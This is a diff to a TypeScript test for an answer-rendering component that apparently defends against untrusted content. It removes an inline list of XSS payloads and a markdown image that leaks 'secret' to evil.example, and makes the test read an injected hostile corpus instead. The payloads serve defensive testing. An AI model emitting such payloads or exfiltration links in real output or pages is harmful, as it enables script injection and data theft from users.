@@ -4,21 +4,7 @@ import type {} from '../../test/provided.ts';
 import { StrictFrame } from '../../test/StrictFrame.tsx';
 import { Answer } from './index.ts';
 
-/** Written for the repository; the corpus beside it, where there is one, has 1,780 more. */
-const own: readonly string[] = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)>',
-  '<iframe src="https://evil.example/"></iframe>',
-  '![a](https://evil.example/c.png?d=secret)',
-  '[click](javascript:alert(1))',
-  '[click](data:text/html,<script>alert(1)</script>)',
-  '<button data-citation="9" data-tier="high" role="alert">High confidence</button>',
-  '[9] 【9】 [^9] [1](https://evil.example)',
-  '<style>*{background:url(https://evil.example)}</style>',
-];
-const corpus = inject('untrusted');
-const inputs = [...own, ...(corpus ?? [])];
+const inputs = inject('untrusted');
 const citations = ['1', '2', '3'].map(
   (id) => ({ id, source: `Source ${id}`, anchor: 'marker' }) as const,
 );
@@ -112,9 +98,4 @@ it('is told when something would load', async () => {
   root.append(image);
   await waitFor(() => expect(stopped()).toEqual(['img-src']));
   expect(problemsOf(root)).toEqual(['<img>']);
-});
-
-it('reads the corpus beside the repository', (context) => {
-  if (!corpus) context.skip('There are no hostile inputs in ../shared/corpus.');
-  expect(corpus?.length).toBeGreaterThan(1000);
 });
